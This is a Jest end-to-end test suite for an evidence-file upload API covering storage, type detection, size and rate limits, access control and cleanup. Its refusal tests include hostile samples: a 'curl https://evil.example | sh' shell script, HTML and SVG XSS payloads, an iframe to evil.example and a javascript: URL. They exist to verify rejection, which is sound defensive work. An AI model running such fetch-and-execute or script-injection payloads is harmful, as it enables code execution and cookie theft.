import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import request from 'supertest';
import { CSV_TEXT, elfBytes, pngBytes } from '../../apps/api/src/modules/evidence/__tests__/evidence-fixtures';
import { RequestContext } from '../../apps/api/src/common/request-context';
import { EvidenceService } from '../../apps/api/src/modules/evidence/evidence.service';
import { EvidenceOrphansService } from '../../apps/api/src/modules/evidence/evidence-orphans.service';
import { EvidenceRepository } from '../../apps/api/src/modules/evidence/evidence.repository';
import { BLOB_STORAGE, type BlobStorage } from '../../apps/api/src/modules/evidence/storage/blob-storage';
import { RATE_LIMITS } from '../../apps/api/src/modules/rate-limits/rate-limit.service';
import { createDraft, nominate, vendorWithOwner } from '../support/factories';
import { countRows, createTestApp, GraphQLClient, TestApp } from '../support/test-app';

// Uploads of tens of megabytes; generous on a busy CI machine.
jest.setTimeout(30_000);

const MB = 1024 * 1024;
const LIST = `query($id: ID!) { caseStudyEvidence(caseStudyId: $id) { caseStudyId editable totalBytes maxTotalBytes maxFileBytes items { id kind title mediaType sizeBytes sha256 originalName url downloadUrl createdAt } } }`;
const ADD_LINK = `mutation($input: AddEvidenceLinkInput!) { addEvidenceLink(input: $input) { id kind title url downloadUrl } }`;
const REMOVE = `mutation($id: ID!) { removeEvidence(id: $id) }`;
const SUBMIT = `mutation($id: ID!) { submitCaseStudy(id: $id) { status } }`;

interface UploadedItem {
  id: string;
  kind: string;
  title: string;
  mediaType: string;
  sizeBytes: number;
  sha256: string;
  originalName: string;
  downloadUrl: string;
}

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

/** A PDF of exactly `size` bytes; `seed` makes its bytes (and hash) unique. */
function pdfOfSize(size: number, seed: string): Buffer {
  const head = Buffer.from(`%PDF-1.4\n% ${seed}\n`, 'latin1');
  return Buffer.concat([head, Buffer.alloc(size - head.length, 0x20)]);
}

/** Every file under `dir`, recursively (an absent folder has none). */
function filesUnder(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs.readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => path.join(e.parentPath, e.name));
}

describe('Evidence files and links (API e2e)', () => {
  let t: TestApp;
  let dataDir: string;
  let owner: GraphQLClient;
  let vendorId: string;
  let rival: GraphQLClient;
  let rivalVendorId: string;
  let buyer: GraphQLClient;
  let admin: GraphQLClient;

  const blobsDir = () => path.join(dataDir, 'blobs');
  const stagingDir = () => path.join(dataDir, 'uploads');

  function upload(client: GraphQLClient | null, caseStudyId: string, name: string, bytes: Buffer, title?: string, contentType?: string): request.Test {
    const req = request(t.app.getHttpServer()).post(`/evidence/case-studies/${caseStudyId}/files`);
    if (client) req.set('cookie', client.cookieHeader());
    if (title !== undefined) req.field('title', title);
    return req.attach('file', bytes, contentType ? { filename: name, contentType } : name);
  }

  function download(client: GraphQLClient | null, url: string): request.Test {
    const req = request(t.app.getHttpServer())
      .get(url)
      .buffer(true)
      .parse((res, callback) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        // Errors are JSON like every other REST error; files stay raw bytes.
        res.on('end', () => {
          const bytes = Buffer.concat(chunks);
          callback(null, /application\/json/.test(String(res.headers['content-type'])) ? JSON.parse(bytes.toString('utf8')) : bytes);
        });
      });
    if (client) req.set('cookie', client.cookieHeader());
    return req;
  }

  /** Nothing of a refused upload remains: no row, no blob, no staged temporary file. */
  async function expectNothingWritten(caseStudyId: string, rowsBefore: number, blobsBefore: number): Promise<void> {
    expect(await countRows(t.dataSource, 'evidence_items', 'case_study_id = $1', [caseStudyId])).toBe(rowsBefore);
    expect(filesUnder(blobsDir())).toHaveLength(blobsBefore);
    expect(filesUnder(stagingDir())).toEqual([]);
  }

  function expectErrorBody(res: request.Response, status: number, code: string, reason?: string): void {
    expect(res.status).toBe(status);
    expect(res.headers['content-type']).toMatch(/application\/json/);
    expect(res.body.error).toMatchObject({ code, ...(reason ? { reason } : {}) });
    expect(typeof res.body.error.message).toBe('string');
    expect(JSON.stringify(res.body)).not.toMatch(/stack|at \w+ \(/);
  }

  beforeAll(async () => {
    dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'assay-evidence-e2e-'));
    t = await createTestApp({ ASSAY_DATA_DIR: dataDir });
    ({ client: owner, vendorId } = await vendorWithOwner(t, 'owner@lattice.example', 'Lattice Analytics'));
    ({ client: rival, vendorId: rivalVendorId } = await vendorWithOwner(t, 'owner@rival-evidence.example', 'Rival Evidence AI'));
    buyer = await t.signedInClient({ email: 'buyer@shopco.example' });
    await buyer.query(`mutation { createOrganization(input: { name: "ShopCo", kind: buyer }) { id } }`);
    admin = await t.signedInClient({ email: 'admin@assay.example', platformRoles: ['admin'] });
  }, 60_000);
  afterAll(async () => {
    await t.close();
    fs.rmSync(dataDir, { recursive: true, force: true });
  });

  it('stores an upload content-addressed under its SHA-256 and lists it for the vendor', async () => {
    const draft = await createDraft(owner, vendorId);
    const png = pngBytes(32, 24);
    const res = await upload(owner, draft.id, 'dashboard.png', png, 'Monitoring dashboard');
    expect(res.status).toBe(201);
    const item = res.body.item as UploadedItem;
    expect(item).toMatchObject({ kind: 'file', title: 'Monitoring dashboard', mediaType: 'image/png', sizeBytes: png.length, sha256: sha256(png), originalName: 'dashboard.png', downloadUrl: `/evidence/files/${item.id}` });

    const hash = sha256(png);
    const blob = path.join(blobsDir(), hash.slice(0, 2), hash.slice(2, 4), hash);
    expect(fs.readFileSync(blob).equals(png)).toBe(true);
    expect(filesUnder(stagingDir())).toEqual([]);

    const list = await owner.query<{ caseStudyEvidence: { editable: boolean; totalBytes: number; maxFileBytes: number; maxTotalBytes: number; items: UploadedItem[] } }>(LIST, { id: draft.id });
    expect(list.errors).toBeUndefined();
    expect(list.data!.caseStudyEvidence).toMatchObject({ editable: true, totalBytes: png.length, maxFileBytes: 20 * MB, maxTotalBytes: 100 * MB });
    expect(list.data!.caseStudyEvidence.items.map((i) => i.id)).toEqual([item.id]);
  });

  it('detects the type from the content: a table named .txt is CSV; the title defaults to the file name', async () => {
    const draft = await createDraft(owner, vendorId);
    const res = await upload(owner, draft.id, 'metrics.txt', Buffer.from(CSV_TEXT));
    expect(res.status).toBe(201);
    expect(res.body.item).toMatchObject({ mediaType: 'text/csv', title: 'metrics.txt' });
  });

  it('keeps one blob for the same bytes attached to two case studies, and refuses them twice in one', async () => {
    const first = await createDraft(owner, vendorId);
    const second = await createDraft(owner, vendorId);
    const png = pngBytes(20, 20);
    const blobsBefore = filesUnder(blobsDir()).length;
    expect((await upload(owner, first.id, 'a.png', png)).status).toBe(201);
    expect((await upload(owner, second.id, 'b.png', png)).status).toBe(201);
    expect(await countRows(t.dataSource, 'evidence_items', 'sha256 = $1', [sha256(png)])).toBe(2);
    expect(filesUnder(blobsDir())).toHaveLength(blobsBefore + 1);

    const again = await upload(owner, first.id, 'a-copy.png', png);
    expectErrorBody(again, 409, 'CONFLICT', 'DUPLICATE_FILE');
    expect(again.body.error.message).toContain('a.png');
    await expectNothingWritten(first.id, 1, blobsBefore + 1);
  });

  it('streams a download as an attachment with its detected type, nosniff and a restrictive CSP, and serves byte ranges', async () => {
    const draft = await createDraft(owner, vendorId);
    const csv = Buffer.from(CSV_TEXT);
    const item = (await upload(owner, draft.id, 'Prognose März.csv', csv)).body.item as UploadedItem;

    const res = await download(owner, item.downloadUrl);
    expect(res.status).toBe(200);
    expect((res.body as Buffer).equals(csv)).toBe(true);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="Prognose M_rz.csv"; filename*=UTF-8''Prognose%20M%C3%A4rz.csv`);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-security-policy']).toMatch(/default-src 'none'; sandbox/);
    expect(res.headers['cache-control']).toBe('private, no-store');

    const partial = await download(owner, item.downloadUrl).set('range', 'bytes=0-5');
    expect(partial.status).toBe(206);
    expect((partial.body as Buffer).toString()).toBe('metric');
    expect(partial.headers['content-range']).toBe(`bytes 0-5/${csv.length}`);
  });

  it('refuses a spoofed extension and binary content, and writes nothing', async () => {
    const draft = await createDraft(owner, vendorId);
    const blobsBefore = filesUnder(blobsDir()).length;

    const pngAsPdf = await upload(owner, draft.id, 'audit-report.pdf', pngBytes(8, 8));
    expectErrorBody(pngAsPdf, 400, 'BAD_USER_INPUT', 'FILE_TYPE_MISMATCH');
    expect(pngAsPdf.body.error.message).toMatch(/named like a PDF document but its content is a PNG image/);
    expect(pngAsPdf.body.error.fields).toEqual([{ field: 'file', message: pngAsPdf.body.error.message }]);

    const elfAsCsv = await upload(owner, draft.id, 'metrics.csv', elfBytes());
    expectErrorBody(elfAsCsv, 400, 'BAD_USER_INPUT', 'UNSUPPORTED_FILE_TYPE');

    const exe = await upload(owner, draft.id, 'tool.exe', Buffer.from('MZ plain bytes'));
    expectErrorBody(exe, 400, 'BAD_USER_INPUT', 'UNSUPPORTED_FILE_TYPE');
    await expectNothingWritten(draft.id, 0, blobsBefore);
  });

  it.each([
    ['an HTML page named .pdf', 'report.pdf', '<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>', undefined],
    ['an SVG named .png', 'chart.png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>', undefined],
    ['an SVG behind an XML declaration, named .txt', 'notes.txt', '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"></svg>', undefined],
    ['an HTML page named .md', 'readme.md', '# Results\n\n<iframe src="https://evil.example"></iframe>', undefined],
    ['a shell script named .txt', 'run.txt', '#!/bin/sh\ncurl https://evil.example | sh\n', undefined],
    ['plain text named .pdf', 'summary.pdf', 'Forecast error fell from 32% to 21%.', undefined],
    ['CSV declared as text/html', 'metrics.csv', 'metric,value\nwape,21\n', 'text/html'],
    ['a PNG declared as image/svg+xml', 'chart.png', null, 'image/svg+xml'],
  ] as const)('refuses %s, and writes nothing', async (_label, name, content, contentType) => {
    const draft = await createDraft(owner, vendorId);
    const blobsBefore = filesUnder(blobsDir()).length;
    const bytes = content === null ? pngBytes(4, 4) : Buffer.from(content);
    const res = await upload(owner, draft.id, name, bytes, undefined, contentType);
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('BAD_USER_INPUT');
    expect(['ACTIVE_CONTENT', 'FILE_TYPE_MISMATCH', 'DECLARED_TYPE_MISMATCH']).toContain(res.body.error.reason);
    expect(res.body.error.fields).toEqual([{ field: 'file', message: res.body.error.message }]);
    await expectNothingWritten(draft.id, 0, blobsBefore);
  });

  it('accepts the types browsers declare for the accepted kinds', async () => {
    const draft = await createDraft(owner, vendorId);
    const csv = await upload(owner, draft.id, 'export.csv', Buffer.from('metric,value\nwape,21\nmape,19\n'), undefined, 'application/vnd.ms-excel');
    expect(csv.status).toBe(201);
    expect(csv.body.item.mediaType).toBe('text/csv');
    const unknown = await upload(owner, draft.id, 'chart.png', pngBytes(5, 5), undefined, 'application/octet-stream');
    expect(unknown.status).toBe(201);
    expect(unknown.body.item.mediaType).toBe('image/png');
  });

  it('removes evidence files no row references once past the grace period, and abandoned staged uploads, by a job', async () => {
    const blobPath = (hash: string) => path.join(blobsDir(), hash.slice(0, 2), hash.slice(2, 4), hash);
    const kept = await createDraft(owner, vendorId);
    const keptBytes = pngBytes(41, 7);
    expect((await upload(owner, kept.id, 'kept.png', keptBytes)).status).toBe(201);
    // A case study deleted with its evidence (rows cascade; the blob stayed behind before this job).
    const deleted = await createDraft(owner, vendorId);
    const deletedBytes = pngBytes(42, 7);
    expect((await upload(owner, deleted.id, 'deleted.png', deletedBytes)).status).toBe(201);
    await t.dataSource.query(`DELETE FROM case_studies WHERE id = $1`, [deleted.id]);
    // An upload abandoned after its blob was written but before its row committed (a crash).
    const abandonedBytes = pngBytes(43, 7);
    await t.app.get(EvidenceRepository).registerBlob(RequestContext.system(), sha256(abandonedBytes));
    await t.app.get<BlobStorage>(BLOB_STORAGE).put(sha256(abandonedBytes), abandonedBytes, abandonedBytes.length, 'image/png');
    // An orphan still inside the grace period (an upload in flight) is left alone.
    const recentBytes = pngBytes(44, 7);
    await t.app.get(EvidenceRepository).registerBlob(RequestContext.system(), sha256(recentBytes));
    await t.app.get<BlobStorage>(BLOB_STORAGE).put(sha256(recentBytes), recentBytes, recentBytes.length, 'image/png');
    await t.dataSource.query(`UPDATE evidence_blobs SET stored_at = now() - interval '25 hours' WHERE sha256 = ANY($1)`, [[keptBytes, deletedBytes, abandonedBytes].map(sha256)]);
    // Staged uploads of a process that died mid-request: an old one and one in progress.
    fs.mkdirSync(stagingDir(), { recursive: true });
    const staleUpload = path.join(stagingDir(), 'upload-1-stale');
    const liveUpload = path.join(stagingDir(), 'upload-2-live');
    fs.writeFileSync(staleUpload, 'x');
    fs.writeFileSync(liveUpload, 'y');
    fs.utimesSync(staleUpload, new Date(Date.now() - 48 * 3_600_000), new Date(Date.now() - 48 * 3_600_000));

    expect(await t.app.get(EvidenceOrphansService).removeOrphans()).toEqual({ blobs: 2, stagedFiles: 1 });
    expect(fs.existsSync(blobPath(sha256(keptBytes)))).toBe(true);
    expect(fs.existsSync(blobPath(sha256(deletedBytes)))).toBe(false);
    expect(fs.existsSync(blobPath(sha256(abandonedBytes)))).toBe(false);
    expect(fs.existsSync(blobPath(sha256(recentBytes)))).toBe(true);
    expect(fs.existsSync(staleUpload)).toBe(false);
    expect(fs.existsSync(liveUpload)).toBe(true);
    fs.rmSync(liveUpload);
    // The kept file still downloads; a second run finds nothing more.
    const list = await owner.query<{ caseStudyEvidence: { items: Array<{ downloadUrl: string }> } }>(LIST, { id: kept.id });
    expect((await download(owner, list.data!.caseStudyEvidence.items[0].downloadUrl)).status).toBe(200);
    expect(await t.app.get(EvidenceOrphansService).removeOrphans()).toEqual({ blobs: 0, stagedFiles: 0 });
  });

  it('refuses a file over 20 MB with 413 and leaves no row, blob or temporary file', async () => {
    const draft = await createDraft(owner, vendorId);
    const blobsBefore = filesUnder(blobsDir()).length;
    // Just over the limit: the upload streams in and multer stops it at 20 MB.
    const res = await upload(owner, draft.id, 'huge.pdf', pdfOfSize(20 * MB + 1, 'huge'));
    expectErrorBody(res, 413, 'PAYLOAD_TOO_LARGE', 'FILE_TOO_LARGE');
    expect(res.body.error.message).toBe('A file can be at most 20 MB. Attach a smaller file, or split it.');
    await expectNothingWritten(draft.id, 0, blobsBefore);

    // Far over: refused from the declared length before the body is read.
    const far = await upload(owner, draft.id, 'huger.pdf', pdfOfSize(21 * MB, 'huger'));
    expectErrorBody(far, 413, 'PAYLOAD_TOO_LARGE', 'FILE_TOO_LARGE');
    await expectNothingWritten(draft.id, 0, blobsBefore);

    // Exactly 20 MB is allowed.
    expect((await upload(owner, draft.id, 'limit.pdf', pdfOfSize(20 * MB, 'limit'))).status).toBe(201);
  }, 60_000);

  it('holds a case study to 100 MB of files, even when two uploads race for the last megabytes', async () => {
    const draft = await createDraft(owner, vendorId);
    for (let i = 0; i < 4; i++) expect((await upload(owner, draft.id, `part-${i}.pdf`, pdfOfSize(20 * MB, `part-${i}`))).status).toBe(201);
    expect((await upload(owner, draft.id, 'part-4.pdf', pdfOfSize(12 * MB, 'part-4'))).status).toBe(201);

    // 92 MB stored: either 6 MB upload fits, both together do not.
    const [a, b] = await Promise.all([
      upload(owner, draft.id, 'race-a.pdf', pdfOfSize(6 * MB, 'race-a')),
      upload(owner, draft.id, 'race-b.pdf', pdfOfSize(6 * MB, 'race-b')),
    ]);
    expect([a.status, b.status].sort()).toEqual([201, 413]);
    const refused = a.status === 413 ? a : b;
    expectErrorBody(refused, 413, 'PAYLOAD_TOO_LARGE', 'CASE_STUDY_STORAGE_FULL');
    expect(refused.body.error.message).toMatch(/may add up to 100 MB; this one already has 98 MB/);

    // Exactly 100 MB is allowed; one byte more is not.
    expect((await upload(owner, draft.id, 'last.pdf', pdfOfSize(2 * MB, 'last'))).status).toBe(201);
    const blobsBefore = filesUnder(blobsDir()).length;
    const over = await upload(owner, draft.id, 'one-more.txt', Buffer.from('x'));
    expectErrorBody(over, 413, 'PAYLOAD_TOO_LARGE', 'CASE_STUDY_STORAGE_FULL');
    await expectNothingWritten(draft.id, 7, blobsBefore);
    const sum: Array<{ total: string }> = await t.dataSource.query(`SELECT sum(size_bytes) AS total FROM evidence_items WHERE case_study_id = $1`, [draft.id]);
    expect(Number(sum[0].total)).toBe(100 * MB);
  }, 120_000);

  it('refuses uploads from anonymous users (401), buyers and other vendors (403), and writes nothing', async () => {
    const draft = await createDraft(owner, vendorId);
    const blobsBefore = filesUnder(blobsDir()).length;
    const png = pngBytes(6, 6);
    expectErrorBody(await upload(null, draft.id, 'x.png', png), 401, 'UNAUTHENTICATED');
    expectErrorBody(await upload(buyer, draft.id, 'x.png', png), 403, 'FORBIDDEN', 'NOT_A_MEMBER');
    expectErrorBody(await upload(rival, draft.id, 'x.png', png), 403, 'FORBIDDEN', 'NOT_A_MEMBER');
    expectErrorBody(await upload(owner, '00000000-0000-4000-8000-000000000000', 'x.png', png), 404, 'NOT_FOUND');
    expectErrorBody(await upload(owner, 'not-a-uuid', 'x.png', png), 404, 'NOT_FOUND');
    await expectNothingWritten(draft.id, 0, blobsBefore);
  });

  it('refuses an upload posted from another site, one without a file, and one with a bad title', async () => {
    const draft = await createDraft(owner, vendorId);
    const crossSite = await upload(owner, draft.id, 'x.png', pngBytes()).set('origin', 'https://evil.example');
    expectErrorBody(crossSite, 403, 'FORBIDDEN', 'CROSS_SITE_REQUEST');
    const noFile = await request(t.app.getHttpServer()).post(`/evidence/case-studies/${draft.id}/files`).set('cookie', owner.cookieHeader()).field('title', 'Nothing');
    expectErrorBody(noFile, 400, 'BAD_USER_INPUT', 'FILE_REQUIRED');
    const longTitle = await upload(owner, draft.id, 'x.png', pngBytes(), 'T'.repeat(161));
    expectErrorBody(longTitle, 400, 'BAD_USER_INPUT');
    expect(longTitle.body.error.fields).toEqual([{ field: 'title', message: 'A title has at most 160 characters.' }]);
    const wrongField = await request(t.app.getHttpServer()).post(`/evidence/case-studies/${draft.id}/files`).set('cookie', owner.cookieHeader()).attach('document', pngBytes(), 'x.png');
    expectErrorBody(wrongField, 400, 'BAD_USER_INPUT', 'MALFORMED_UPLOAD');
    expect(filesUnder(stagingDir())).toEqual([]);
    expect(await countRows(t.dataSource, 'evidence_items', 'case_study_id = $1', [draft.id])).toBe(0);
  });

  it('shows evidence only to the vendor and admins: others can neither list nor download', async () => {
    const draft = await createDraft(owner, vendorId);
    const item = (await upload(owner, draft.id, 'chart.png', pngBytes(10, 10))).body.item as UploadedItem;

    for (const outsider of [rival, buyer]) {
      expect((await outsider.query(LIST, { id: draft.id })).errors?.[0].extensions).toMatchObject({ code: 'FORBIDDEN', reason: 'EVIDENCE_NOT_VISIBLE' });
      expectErrorBody(await download(outsider, item.downloadUrl), 403, 'FORBIDDEN', 'EVIDENCE_NOT_VISIBLE');
    }
    expect((await t.client().query(LIST, { id: draft.id })).errors?.[0].extensions?.code).toBe('UNAUTHENTICATED');
    expectErrorBody(await download(null, item.downloadUrl), 401, 'UNAUTHENTICATED');
    expectErrorBody(await download(owner, '/evidence/files/00000000-0000-4000-8000-000000000000'), 404, 'NOT_FOUND');

    const asAdmin = await admin.query<{ caseStudyEvidence: { editable: boolean; items: unknown[] } }>(LIST, { id: draft.id });
    expect(asAdmin.data?.caseStudyEvidence).toMatchObject({ editable: false, items: [{ id: item.id }] });
    expect((await download(admin, item.downloadUrl)).status).toBe(200);
  });

  it('attaches https links only, and lists them with the files', async () => {
    const draft = await createDraft(owner, vendorId);
    const added = await owner.query<{ addEvidenceLink: { id: string; kind: string; url: string; downloadUrl: string | null } }>(ADD_LINK, {
      input: { caseStudyId: draft.id, title: 'Public model card', url: 'https://lattice.example/model-card' },
    });
    expect(added.errors).toBeUndefined();
    expect(added.data!.addEvidenceLink).toMatchObject({ kind: 'link', url: 'https://lattice.example/model-card', downloadUrl: null });

    for (const url of ['http://lattice.example/x', 'javascript:alert(1)', 'https://user:secret@lattice.example/', 'not a url']) {
      const res = await owner.query(ADD_LINK, { input: { caseStudyId: draft.id, title: 'Bad', url } });
      expect(res.errors?.[0].extensions?.code).toBe('BAD_USER_INPUT');
      expect(res.errors?.[0].extensions?.fields?.[0].field).toBe('url');
    }
    const twice = await owner.query(ADD_LINK, { input: { caseStudyId: draft.id, title: 'Again', url: 'https://lattice.example/model-card' } });
    expect(twice.errors?.[0].extensions).toMatchObject({ code: 'CONFLICT', reason: 'DUPLICATE_LINK' });
    const rivalLink = await rival.query(ADD_LINK, { input: { caseStudyId: draft.id, title: 'Spam', url: 'https://rival.example' } });
    expect(rivalLink.errors?.[0].extensions).toMatchObject({ code: 'FORBIDDEN', reason: 'NOT_A_MEMBER' });
    expect(await countRows(t.dataSource, 'evidence_items', 'case_study_id = $1', [draft.id])).toBe(1);
  });

  it('removes evidence from a draft, deleting the blob only when nothing else references it', async () => {
    const first = await createDraft(owner, vendorId);
    const second = await createDraft(owner, vendorId);
    const shared = pngBytes(12, 12);
    const own = pngBytes(13, 13);
    const a = (await upload(owner, first.id, 'shared.png', shared)).body.item as UploadedItem;
    await upload(owner, second.id, 'shared.png', shared);
    const b = (await upload(owner, first.id, 'own.png', own)).body.item as UploadedItem;
    const blobOf = (hash: string) => path.join(blobsDir(), hash.slice(0, 2), hash.slice(2, 4), hash);

    const rivalRemove = await rival.query(REMOVE, { id: a.id });
    expect(rivalRemove.errors?.[0].extensions).toMatchObject({ code: 'FORBIDDEN' });

    expect((await owner.query(REMOVE, { id: a.id })).data).toEqual({ removeEvidence: a.id });
    expect(fs.existsSync(blobOf(a.sha256))).toBe(true);
    expect((await owner.query(REMOVE, { id: b.id })).data).toEqual({ removeEvidence: b.id });
    expect(fs.existsSync(blobOf(b.sha256))).toBe(false);
    expect(await countRows(t.dataSource, 'evidence_items', 'case_study_id = $1', [first.id])).toBe(0);
    expectErrorBody(await download(owner, b.downloadUrl), 404, 'NOT_FOUND');
    expect((await owner.query(REMOVE, { id: b.id })).errors?.[0].extensions?.code).toBe('NOT_FOUND');
  });

  it('copies evidence to a new revision by reference: the blobs are shared, not duplicated', async () => {
    const original = await createDraft(owner, vendorId);
    const revision = await createDraft(owner, vendorId);
    const png = pngBytes(15, 11);
    await upload(owner, original.id, 'kept.png', png);
    await owner.query(ADD_LINK, { input: { caseStudyId: original.id, title: 'Model card', url: 'https://lattice.example/card-2' } });
    const blobsBefore = filesUnder(blobsDir()).length;

    expect(await t.app.get(EvidenceService).copyToRevision(RequestContext.system(), original.id, revision.id)).toBe(2);
    const list = await owner.query<{ caseStudyEvidence: { items: Array<{ kind: string; title: string; sha256: string | null }> } }>(LIST, { id: revision.id });
    expect(list.data!.caseStudyEvidence.items).toEqual([
      expect.objectContaining({ kind: 'file', title: 'kept.png', sha256: sha256(png) }),
      expect.objectContaining({ kind: 'link', title: 'Model card' }),
    ]);
    expect(filesUnder(blobsDir())).toHaveLength(blobsBefore);
  });

  it('freezes the evidence of a submitted case study: no uploads, links or removals', async () => {
    const draft = await createDraft(owner, vendorId);
    const item = (await upload(owner, draft.id, 'before-submit.png', pngBytes(9, 9))).body.item as UploadedItem;
    await nominate(owner, draft.id, 'cto@acme-retail.example');
    const submitted = await owner.query<{ submitCaseStudy: { status: string } }>(SUBMIT, { id: draft.id });
    expect(submitted.data?.submitCaseStudy.status).toBe('submitted');
    const blobsBefore = filesUnder(blobsDir()).length;

    const res = await upload(owner, draft.id, 'late.png', pngBytes(7, 7));
    expectErrorBody(res, 409, 'CONFLICT', 'CASE_STUDY_NOT_EDITABLE');
    expect(res.body.error.message).toMatch(/Only a draft case study can be edited; this one is submitted/);
    const link = await owner.query(ADD_LINK, { input: { caseStudyId: draft.id, title: 'Late', url: 'https://lattice.example/late' } });
    expect(link.errors?.[0].extensions).toMatchObject({ code: 'CONFLICT', reason: 'CASE_STUDY_NOT_EDITABLE' });
    const removal = await owner.query(REMOVE, { id: item.id });
    expect(removal.errors?.[0].extensions).toMatchObject({ code: 'CONFLICT', reason: 'CASE_STUDY_NOT_EDITABLE' });
    await expectNothingWritten(draft.id, 1, blobsBefore);

    const list = await owner.query<{ caseStudyEvidence: { editable: boolean } }>(LIST, { id: draft.id });
    expect(list.data?.caseStudyEvidence.editable).toBe(false);
    expect((await download(owner, item.downloadUrl)).status).toBe(200);
  });

  it('limits uploads per uploader: past the hourly allowance an upload is refused with when to retry, and nothing is stored', async () => {
    const { client: busy, vendorId: busyVendor } = await vendorWithOwner(t, 'owner@busy-uploads.example', 'Busy Uploads');
    const allowance = RATE_LIMITS.upload.points;
    let draft = await createDraft(busy, busyVendor);
    for (let i = 0; i < allowance; i++) {
      if (i > 0 && i % 90 === 0) draft = await createDraft(busy, busyVendor); // stay under the items per case study
      const res = await upload(busy, draft.id, `figure-${i}.png`, pngBytes(1 + i, 1));
      expect(res.status).toBe(201);
    }
    const rowsBefore = await countRows(t.dataSource, 'evidence_items', 'case_study_id = $1', [draft.id]);
    const blobsBefore = filesUnder(blobsDir()).length;

    const refused = await upload(busy, draft.id, 'one-too-many.png', pngBytes(3, 3));
    expectErrorBody(refused, 429, 'RATE_LIMITED');
    expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
    expect(refused.body.error.message).toMatch(/file uploads/);
    await expectNothingWritten(draft.id, rowsBefore, blobsBefore);

    // Another vendor's allowance is its own.
    const own = await createDraft(rival, rivalVendorId);
    expect((await upload(rival, own.id, 'still-fine.png', pngBytes(4, 4))).status).toBe(201);
  }, 120_000);
});
